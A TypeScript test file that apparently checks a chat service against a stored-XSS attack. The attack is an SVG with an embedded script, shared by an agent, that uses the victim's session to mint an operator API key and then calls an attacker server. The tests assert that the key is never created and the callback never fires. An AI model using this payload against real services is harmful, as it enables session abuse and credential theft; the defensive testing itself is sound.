import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe, it } from 'node:test'
import type { Page } from 'playwright-core'
import { cannotRun, furnish, type Visit, visit } from './testing.ts'
import { openChat } from './testing-chat.ts'

const skip = cannotRun()

/** Mints an API key with the session of the person who opens it, and reports to the attacker's own server that it ran. */
const attack = (attacker: string) => `
  fetch('/v1/api-keys', {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-diorama-console': '1' },
    body: JSON.stringify({ name: 'stolen', class: 'operator', scopes: [] }),
  }).finally(() => fetch('${attacker}/ran', { mode: 'no-cors' }))`

const svg = (script: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg"><script>//<![CDATA[\n${script}\n//]]></script></svg>`

const openAttacker = async () => {
  const heard: string[] = []
  const server = createServer((request, response) => {
    heard.push(request.url ?? '')
    response.end()
  }).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  return {
    heard,
    url: `http://127.0.0.1:${port}`,
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    },
  }
}

const freePort = async (): Promise<number> => {
  const server = createServer().listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  await new Promise((resolve) => server.close(resolve))
  return port
}

/** Opens an address as a person who follows a link would; a download is no page. */
const follow = async (page: Page, address: string): Promise<void> => {
  await page.goto(address, { waitUntil: 'load' }).catch((error: Error) => {
    if (!/Download is starting|ERR_ABORTED/.test(error.message)) throw error
  })
}

/** Shares the picture as an agent would, and says where the chat serves it to anyone with the link. */
const shareAttack = async ({ service }: Visit, attacker: string): Promise<string> => {
  const { twin } = await furnish(service)
  const { baseUrl, token } = twin('chat')
  const chat = openChat({ baseUrl, token })
  const { channel = '' } = await chat.ask('chat.postMessage', { channel: 'orders', text: 'Look at this.' })
  await chat.share(channel, 'chart.svg', new TextEncoder().encode(svg(attack(attacker))))
  const { files } = (await chat.ask('files.list', {})) as unknown as {
    files: { name: string; url_private: string }[]
  }
  const shared = files.find(({ name }) => name === 'chart.svg')
  assert.ok(shared)
  return `${shared.url_private}?t=${token}`
}

/** The keys of the organization; the one that the test service began with is the only one that should be there. */
const keyNames = async ({ service }: Visit): Promise<string[]> => {
  const { body } = await service.call('GET', '/v1/api-keys')
  return body.items.map(({ name }: { name: string }) => name)
}

/** A page of the attacker's that loads right after: when it has been heard, an attack before it would have been. */
const settle = async (page: Page, attacker: string): Promise<void> => {
  await page.goto(`${attacker}/settled`)
}

describe('a picture with a script that an agent shares in a chat', { skip }, () => {
  it('mints no key when an operator opens it, frames it or runs it as a script', async () => {
    await using seen = await visit()
    await using attacker = await openAttacker()
    const { page, service } = seen
    const file = await shareAttack(seen, attacker.url)
    const reply = await fetch(file)
    assert.match(await reply.text(), /stolen/)
    await follow(page, file)
    await follow(page, service.baseUrl)
    const loaded = await page.evaluate(async (address) => {
      const load = (element: HTMLElement) =>
        new Promise<string>((resolve) => {
          element.onload = () => resolve('loaded')
          element.onerror = () => resolve('refused')
          document.body.append(element)
        })
      const script = Object.assign(document.createElement('script'), { src: address })
      return {
        script: await load(script),
        worker: await navigator.serviceWorker.register(address).then(String, () => 'refused'),
      }
    }, file)
    assert.deepEqual(loaded, { script: 'refused', worker: 'refused' })
    await settle(page, attacker.url)
    assert.deepEqual(
      attacker.heard.filter((path) => path === '/ran'),
      [],
    )
    assert.deepEqual(await keyNames(seen), ['first key'])
  })

  it('runs nothing on an origin of the twins, and is not served on that of the console', async () => {
    await using attacker = await openAttacker()
    const port = await freePort()
    const twinOrigin = `http://localhost:${port}`
    await using seen = await visit({ service: { port, twinOrigin } })
    const { page, service } = seen
    const file = await shareAttack(seen, attacker.url)
    assert.ok(file.startsWith(`${twinOrigin}/t/`))
    await follow(page, file)
    await follow(page, file.replace(twinOrigin, service.baseUrl))
    assert.match((await page.textContent('body')) ?? '', /Twins are served at http:\/\/localhost/)
    await settle(page, attacker.url)
    assert.deepEqual(
      attacker.heard.filter((path) => path === '/ran'),
      [],
    )
    assert.deepEqual(await keyNames(seen), ['first key'])
  })
})
